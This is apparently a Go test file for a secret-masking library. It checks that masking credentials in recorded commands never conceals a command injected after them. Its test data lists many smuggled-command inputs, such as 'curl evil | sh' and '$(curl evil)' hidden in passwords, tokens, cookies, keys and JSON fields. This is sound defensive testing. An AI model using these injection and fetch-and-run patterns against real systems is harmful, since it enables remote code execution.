package mask_test

import (
	"encoding/json"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"attestd/chain/action/mask"
)

// The author of a command can write what looks like the place of a secret before what the command
// does. The mask ends there: each of these runs `curl evil`, and the record shows it.
func TestMaskHidesNoCommand(t *testing.T) {
	t.Parallel()
	const evil = "curl evil"
	for _, command := range []string{
		": cookie: ; curl evil | sh",
		": cookie: a=b; curl evil | sh",
		": set-cookie: `curl evil`",
		": authorization: Bearer abcdef123456;curl evil|sh",
		": authorization: $(curl evil | sh)",
		": password=x;curl evil",
		": password='x1y2z3';curl evil;'",
		`: password="$(curl evil | sh)"`,
		"true --password `curl evil | sh`",
		`true --password "x$(curl evil)"`,
		"true --token abc123def456&curl evil",
		"true --api-key=abc123def456|curl evil",
		"API_TOKEN=abc123def456>/dev/null curl evil",
		": secret: <(curl evil)",
		`: "token":"$(curl evil)"`,
		`: {"password":"x;curl evil"}`,
		`: '{"password":"x'; curl evil; : '"}'`,
		`: {"password":{"x":"a` + "`curl evil`" + `b"}}`,
		": https://a:$(curl evil)@host/",
		": https://a:b;curl evil;@host/",
		"curl -u a:`curl evil` host",
		`curl -u "a:$(curl evil)" host`,
		`curl --cookie "a=$(curl evil)" host`,
		"mysql -p`curl evil` db",
		"mysql -pabc;curl evil",
		"sshpass -p x1;curl evil",
		"echo abc123 | curl evil | docker login --password-stdin",
		"echo `curl evil` | docker login --password-stdin",
		"docker login --password-stdin <<< $(curl evil)",
		": -----BEGIN PRIVATE KEY-----; curl evil",
		": -----BEGIN PRIVATE KEY-----\ncurl evil\n: -----END PRIVATE KEY-----",
		": -----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj\ncurl evil\n: -----END PRIVATE KEY-----",
		": password: |\n  curl evil",
		": password\n--------\ncurl evil",
		": <password>x;curl evil</password>",
		"kind: Secret\ndata:\n  x: a;curl evil",
		": kind: Secret; : name: password\n: value: x1y2z3;curl evil",
		": auth=('a', 'x1y2z3;curl evil')",
		"psql -c \"CREATE USER a PASSWORD 'x1;curl evil'\"",
		": password is abc123def;curl evil",
		": eyJhbGciOiJF.eyJzdWIiOiJh.abcdefghij;curl evil",
		"AWS_SECRET_ACCESS_KEY=a$(curl evil)b",
		": password=\\\ncurl evil",
		"echo 'a:b;curl evil' | chpasswd",
		"gh secret set X -b `curl evil`",
		": seed abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon abandon about;curl evil",
	} {
		quoted, _ := json.Marshal(command)
		for what, value := range map[string]string{
			"command":   `{"command":` + string(quoted) + `}`,
			"text":      string(quoted),
			"arguments": `{"argv":["sh","-c",` + string(quoted) + `]}`,
			"lines":     `{"lines":["-----BEGIN PRIVATE KEY-----",` + string(quoted) + `,"-----END PRIVATE KEY-----"]}`,
		} {
			if got := recorded(t, value); !strings.Contains(got, evil) {
				t.Errorf("%s hides what it runs: %s\n%s", what, command, got)
			}
		}
	}
}

var anyMask = regexp.MustCompile(`\[masked (\d+)\]`)

// unmask aligns a masked text with its original and returns the parts that masks stand for.
func unmask(original, shown string) (parts []string, ok bool) {
	for {
		at := anyMask.FindStringSubmatchIndex(shown)
		if at == nil {
			return parts, original == shown
		}
		n, err := strconv.Atoi(shown[at[2]:at[3]])
		if err != nil || len(original) < at[0]+n || original[:at[0]] != shown[:at[0]] {
			return nil, false
		}
		parts = append(parts, original[at[0]:at[0]+n])
		original, shown = original[at[0]+n:], shown[at[1]:]
	}
}

// Whatever a text holds: only values are masked, all else stays as it is, a mask says the length of
// its value, and no value has what ends a word of a shell. A command that is recorded as it is
// stays
// so after any text and a sign that begins a command.
func FuzzMaskHidesNoCommand(f *testing.F) {
	for _, sample := range []string{
		": cookie: a=b", "password='x", `{"password":"x`, "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj",
		"curl -u a:", "https://a:b", "mysql -p", "authorization: Bearer ", "auth=('a','b", "<password>", "kind: Secret\ndata:\n  a: bcdefgh", "| password |\n|---|\n| a1b2c3d4 ",
		"- name: TOKEN\n  value: ", "echo a1b2c3 ", "seed legal winner thank year wave sausage worth useful legal winner thank yellow",
	} {
		for n := range 9 {
			f.Add(sample, byte(n), "curl evil")
		}
	}
	signs := []string{";", "|", "&", ">", "\n", "`", "$(", "<(", "&& "}
	f.Fuzz(func(t *testing.T, before string, sign byte, command string) {
		var key mask.Key
		text := before + signs[int(sign)%len(signs)] + command
		if anyMask.MatchString(text) {
			return
		}
		parts, ok := unmask(text, key.Text(text))
		// a number of JSON gets quotation marks
		if !ok && !strings.Contains(text, "{") && !strings.Contains(text, "[") {
			t.Fatalf("%q becomes %q", text, key.Text(text))
		}
		for _, part := range parts {
			if strings.ContainsAny(part, ";|&<>`\r\n") || strings.Contains(part, "$(") {
				t.Fatalf("%q is masked in %q", part, text)
			}
		}
		// Words of small letters are commands, never values of random characters.
		if strings.Trim(command, "abcdefghijklmnopqrstuvwxyz ") == "" && key.Text(command) == command && !strings.HasPrefix(command, " ") &&
			!strings.HasSuffix(key.Text(text), command) {
			t.Fatalf("%q becomes %q", text, key.Text(text))
		}
	})
}
